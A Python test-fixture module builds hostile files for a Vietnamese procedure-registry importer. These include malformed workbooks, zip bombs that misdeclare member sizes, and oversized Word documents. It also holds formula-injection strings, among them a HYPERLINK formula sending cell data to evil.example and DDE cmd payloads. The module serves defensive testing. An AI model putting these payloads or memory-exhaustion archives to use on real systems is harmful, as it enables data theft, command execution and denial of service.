"""Hostile files for the registry importer's tests, made on the spot: a ``.xlsx`` that is no
zip, an Excel 97–2003 file, a zip with no workbook, a damaged workbook, Excel's «Unicode
Text», a workbook with formula cells, and cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

from openpyxl import Workbook

DATA = Path(__file__).resolve().parent / "registry" / "data"
SAMPLE = DATA / "sample_tthc_list.csv"
LIST = ("Mã TTHC,Tên TTHC,Cấp thực hiện,Thời hạn giải quyết,Số quyết định\n"
        "1.000001,Thủ tục một,Cấp tỉnh,20 ngày,10/QĐ-UBND\n"
        "1.000002,Thủ tục hai,Cấp tỉnh,5 ngày làm việc,10/QĐ-UBND\n"
        "1.000002,Thủ tục hai,Cấp xã,5 ngày làm việc,10/QĐ-UBND\n"
        "3000410,Thủ tục ba,Cấp xã,3 ngày làm việc,10/QĐ-UBND\n")


def no_workbook_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "nothing here")
    return out.getvalue()


def damaged_workbook() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types")
        archive.writestr("xl/workbook.xml", "<<< not xml")
    return out.getvalue()


HOSTILE_WORKBOOKS = {
    "text.xlsx": (b"STT,Ma TTHC\n1,1.000001\n", "không phải sổ tính Excel (.xlsx)"),
    "old.xlsx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "Excel 97–2003 (.xls)"),
    "empty-zip.xlsx": (no_workbook_zip(), "không chứa sổ tính Excel"),
    "damaged.xlsx": (damaged_workbook(), "bị hỏng"),
}

def excel_unicode_text() -> str:
    """The sample list as Excel's «Unicode Text» writes it: tab-separated, CRLF lines."""
    rows = list(csv.reader(io.StringIO(SAMPLE.read_text(encoding="utf-8"))))
    out = io.StringIO()
    csv.writer(out, delimiter="\t", lineterminator="\r\n").writerows(rows)
    return out.getvalue()

def workbook_with_formulas(path: Path, kept: dict[str, str] | None = None) -> None:
    """A list whose time limit (E2) and code (B4) are formulas; ``kept``: cell → the result
    Excel keeps, written into the sheet as Excel would after a save."""
    book = Workbook()
    sheet = book.active
    sheet.append(["STT", "Mã TTHC", "Tên TTHC", "Cấp thực hiện", "Thời hạn giải quyết"])
    sheet.append([1, "1.000001", "Cấp giấy phép", "Cấp tỉnh", '=CONCATENATE(20," ngày")'])
    sheet.append([2, "1.000002", "Cấp lại giấy phép", "Cấp tỉnh", "15 ngày làm việc"])
    sheet.append([3, '="1.000003"', "Gia hạn giấy phép", "Cấp tỉnh", "10 ngày làm việc"])
    book.save(path)
    if not kept:
        return
    with zipfile.ZipFile(path) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    xml = parts["xl/worksheets/sheet1.xml"].decode()
    for cell, value in kept.items():
        xml = re.sub(rf'(<c r="{cell}")([^>]*)>(<f>.*?</f>)(<v>.*?</v>|<v\s*/>)?</c>',
                     rf'\1 t="str"\2>\3<v>{value}</v></c>', xml)
    parts["xl/worksheets/sheet1.xml"] = xml.encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)

INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
              "@SUM(1+1)*cmd|' /C calc'!A0",
              "+Đất đai", "-Sở Xây dựng", "=cmd|' /C notepad'!'A1'", "\tTab", "\rCR"]


# --- zips that take a reader's memory --------------------------------------------------------

def rezip(source: bytes, replace: dict[str, bytes] | None = None,
          add: dict[str, bytes] | None = None) -> bytes:
    """A copy of the zip ``source`` with members replaced or added."""
    original = zipfile.ZipFile(io.BytesIO(source))
    parts = {n: original.read(n) for n in original.namelist()}
    parts.update(replace or {})
    parts.update(add or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def lying_about(source: bytes, member: str, declared: int) -> bytes:
    """``source`` with ``member``'s size declared as ``declared`` bytes, in its local header
    and the directory both (its data, and its CRC, as they are): Python's ``zipfile``
    inflates such a member whole before it cuts it to the declared size."""
    import struct

    data = bytearray(source)
    archive = zipfile.ZipFile(io.BytesIO(source))
    info = archive.getinfo(member)
    struct.pack_into("<L", data, info.header_offset + 22, declared)
    at = data.find(b"PK\x01\x02")
    while at != -1:
        length = struct.unpack_from("<H", data, at + 28)[0]
        if bytes(data[at + 46:at + 46 + length]).decode() == member:
            struct.pack_into("<L", data, at + 24, declared)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def many_headers(docx: bytes, count: int, size: int) -> bytes:
    """A Word file whose document has ``count`` header parts of ``size`` bytes each (each
    under the ratio check's threshold when ``size`` is 1 MiB or less): python-docx parses
    every one."""
    original = zipfile.ZipFile(io.BytesIO(docx))
    types = original.read("[Content_Types].xml").decode()
    rels = original.read("word/_rels/document.xml.rels").decode()
    filler = "<w:p><w:r><w:t>" + "x" * 200 + "</w:t></w:r></w:p>"
    body = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            + filler * max(1, (size - 200) // len(filler)) + "</w:hdr>").encode()
    headers, overrides, links = {}, [], []
    for k in range(1, count + 1):
        headers[f"word/header{k}.xml"] = body
        overrides.append(f'<Override PartName="/word/header{k}.xml" ContentType="application/'
                         f'vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>')
        links.append(f'<Relationship Id="rIdH{k}" Type="http://schemas.openxmlformats.org/'
                     f'officeDocument/2006/relationships/header" Target="header{k}.xml"/>')
    types = types.replace("</Types>", "".join(overrides) + "</Types>")
    rels = rels.replace("</Relationships>", "".join(links) + "</Relationships>")
    return rezip(docx, {"[Content_Types].xml": types.encode(),
                        "word/_rels/document.xml.rels": rels.encode()}, headers)


def workbook_lying_about_a_part(path: Path, real: int = 64 * 1024 * 1024) -> bytes:
    """The list as a workbook whose ``xl/workbook.xml`` really inflates to ``real`` bytes but
    declares its original size: openpyxl, through Python's ``ZipFile.read``, would inflate
    all of it before anything could say no."""
    book = Workbook()
    sheet = book.active
    for row in csv.reader(io.StringIO(LIST)):
        sheet.append(row)
    book.save(path)
    source = path.read_bytes()
    part = zipfile.ZipFile(io.BytesIO(source)).read("xl/workbook.xml")
    padded = part + b" " * real
    return lying_about(rezip(source, {"xl/workbook.xml": padded}), "xl/workbook.xml",
                       len(part))


def long_document(docx: bytes, mib: int) -> bytes:
    """A Word file whose ``word/document.xml`` holds ``mib`` MiB of ordinary paragraphs:
    within every limit of the zip, but many times that in memory once parsed."""
    original = zipfile.ZipFile(io.BytesIO(docx))
    xml = original.read("word/document.xml").decode()
    paragraphs, size, number = [], 0, 0
    while size < mib * 1024 * 1024:
        number += 1
        text = (f"<w:p><w:r><w:t>Bước {number}: tiếp nhận hồ sơ số {number * 7919 % 100003}"
                f", chuyển phòng {number % 37} xử lý trong {number % 11} ngày</w:t></w:r>"
                f"</w:p>")
        paragraphs.append(text)
        size += len(text.encode())
    at = xml.rindex("</w:body>")
    sect = xml.rfind("<w:sectPr", 0, at)
    at = sect if sect != -1 else at
    return rezip(docx, {"word/document.xml": (xml[:at] + "".join(paragraphs)
                                              + xml[at:]).encode()})
